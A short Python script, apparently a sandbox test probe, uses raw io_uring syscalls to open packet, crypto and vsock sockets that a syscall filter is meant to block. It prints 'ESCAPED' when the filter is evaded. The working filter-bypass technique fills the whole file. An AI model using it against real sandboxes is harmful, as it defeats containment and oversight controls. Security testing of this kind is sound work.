# problem: none
# says: none
# Has io_uring make the sockets that the filter refuses: what a ring is told, no filter sees.
import ctypes
import mmap
import os
import socket
import struct

libc = ctypes.CDLL(None, use_errno=True)
SETUP, ENTER, OP_SOCKET, GET_EVENTS = 425, 426, 45, 1
parameters = ctypes.create_string_buffer(120)
ring = libc.syscall(SETUP, 1, parameters)
if ring >= 0:
    sq, cq = struct.unpack_from("8I", parameters, 40), struct.unpack_from("8I", parameters, 80)
    submissions, completions = (mmap.mmap(ring, 4096, offset=at) for at in (0, 0x8000000))
    entries = mmap.mmap(ring, 4096, offset=0x10000000)
    for number, (family, kind) in enumerate(
        ((40, socket.SOCK_STREAM), (38, socket.SOCK_SEQPACKET), (17, socket.SOCK_DGRAM))
    ):
        entries[:64] = struct.pack("BBHiQQIIQ24x", OP_SOCKET, 0, 0, family, kind, 0, 0, 0, number)
        struct.pack_into("I", submissions, sq[6], 0)
        struct.pack_into("I", submissions, sq[1], number + 1)
        libc.syscall(ENTER, ring, 1, 1, GET_EVENTS, None, 0)
        (tail,) = struct.unpack_from("I", completions, cq[1])
        (mask,) = struct.unpack_from("I", completions, cq[2])
        _, made, _ = struct.unpack_from("QiI", completions, cq[5] + 16 * ((tail - 1) & mask))
        struct.pack_into("I", completions, cq[0], tail)
        if made >= 0:
            print("ESCAPED: a socket of family", family, os.readlink(f"/proc/self/fd/{made}")[:6])
print("none")
